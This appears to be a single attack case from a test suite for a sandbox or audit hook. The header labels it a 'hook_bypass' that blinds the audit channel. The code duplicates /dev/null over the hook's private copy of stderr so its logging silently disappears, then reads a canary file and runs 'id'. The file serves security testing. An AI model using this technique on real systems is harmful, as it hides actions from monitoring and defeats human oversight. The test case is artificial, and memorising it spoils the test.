# attack: dup2_audit_channel
# class: 2
# category: hook_bypass
# kind: audit_blinded
# describe: dup2 /dev/null over the hook's private duplicate of stderr, so its writes succeed into nothing
import json
import os
import pathlib
import subprocess

err = os.fstat(2)
null = os.open(os.devnull, os.O_WRONLY)
for fd in range(3, 256):
    if fd == null:
        continue
    try:
        st = os.fstat(fd)
    except OSError:
        continue
    if (st.st_dev, st.st_ino) == (err.st_dev, err.st_ino):
        os.dup2(null, fd)
canary = pathlib.Path(json.loads(pathlib.Path("target.json").read_text())["canary_path"])
try:
    canary.read_bytes()
except OSError:
    pass
subprocess.run(["id"], check=False)
